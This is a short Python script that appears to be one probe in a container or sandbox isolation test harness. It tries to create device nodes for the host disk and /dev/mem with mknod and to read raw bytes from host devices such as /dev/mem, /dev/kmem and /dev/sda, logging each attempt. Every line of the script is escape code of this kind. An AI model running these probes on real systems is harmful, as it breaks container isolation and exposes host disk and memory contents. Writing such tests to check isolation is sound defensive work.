"""Create device nodes (the host's disk, /dev/mem) and open the host's raw devices."""
import os
import stat

from attack import A, P

major, minor = P["disk"]
A.attempt("mknod_disk", os.mknod, "disk", stat.S_IFBLK | 0o666, os.makedev(major, minor))
A.attempt("mknod_mem", os.mknod, "mem", stat.S_IFCHR | 0o666, os.makedev(1, 1))
A.attempt("mknod_shm", os.mknod, "/dev/shm/disk", stat.S_IFBLK | 0o666, os.makedev(major, minor))
for dev in ("/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", P["disk_path"], "/dev/sda",
            "/dev/nvme0n1", "/dev/vda"):
    A.attempt("open_" + dev, lambda d=dev: open(d, "rb").read(512))
A.finish()
